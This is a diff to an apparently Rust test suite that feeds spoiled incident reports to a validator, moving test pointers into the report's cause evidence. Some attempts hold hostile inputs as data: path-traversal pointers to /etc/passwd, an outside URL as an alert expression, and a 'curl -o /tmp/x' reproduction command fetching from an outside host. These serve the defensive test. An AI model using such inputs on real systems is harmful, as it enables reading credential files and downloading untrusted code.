@@ -110,7 +110,7 @@ static ATTEMPTS: [Attempt; 11] = [
     Attempt {
         name: "another run",
         spoil: |head, _| {
-            everywhere(
+            in_the_cause(
                 head,
                 &[
                     "trace:4bf92f3577b34da6a3ce929d0e0e4736",
@@ -130,7 +130,7 @@ static ATTEMPTS: [Attempt; 11] = [
     Attempt {
         name: "what fires",
         spoil: |head, _| {
-            everywhere(
+            in_the_cause(
                 head,
                 &[
                     r#"promql:ALERTS{alertstate="firing", x!="db_client_operation_duration_seconds SELECT price"}@page"#,
@@ -148,7 +148,7 @@ static ATTEMPTS: [Attempt; 11] = [
     Attempt {
         name: "what every slow page shows",
         spoil: |head, _| {
-            everywhere(
+            in_the_cause(
                 head,
                 &[
                     "promql:histogram_quantile(0.9, sum by (le) (rate(http_server_request_duration_seconds_bucket{service=\"gateway\", http_route=\"/v1/orders\"}[20s])))@page",
@@ -199,7 +199,7 @@ static ATTEMPTS: [Attempt; 11] = [
                 "log:../../../../../etc/passwd".to_owned(),
                 "deploy:../../etc/passwd".to_owned(),
             ];
-            everywhere(head, &pointers.each_ref().map(String::as_str));
+            in_the_cause(head, &pointers.each_ref().map(String::as_str));
             set(head, "alert", &[("expr", &format!("http://{outside}/"))]);
             let command = format!("curl -o /tmp/x http://{outside}/");
             set(head, "reproduction", &[("command", &command)]);
@@ -220,7 +220,7 @@ static ATTEMPTS: [Attempt; 11] = [
                 format!("promql:{ENDLESS}@page"),
                 format!("promql:{ENDLESS} + 1@page"),
             ];
-            everywhere(head, &pointers.each_ref().map(String::as_str));
+            in_the_cause(head, &pointers.each_ref().map(String::as_str));
             set(head, "alert", &[("expr", ENDLESS)]);
         },
         says: &[
@@ -261,6 +261,13 @@ fn unknown() -> Table {
         [alert]
         expr = "unknown"
     }
+}
+
+/// Puts these pointers into the cause, and none anywhere else.
+fn in_the_cause(head: &mut Table, pointers: &[&str]) {
+    everywhere(head, &[]);
+    let cause = head["cause"].as_table_mut().expect("a table");
+    cause.insert("evidence".to_owned(), pointers.to_vec().into());
 }
 
 /// Puts these pointers wherever there are any.
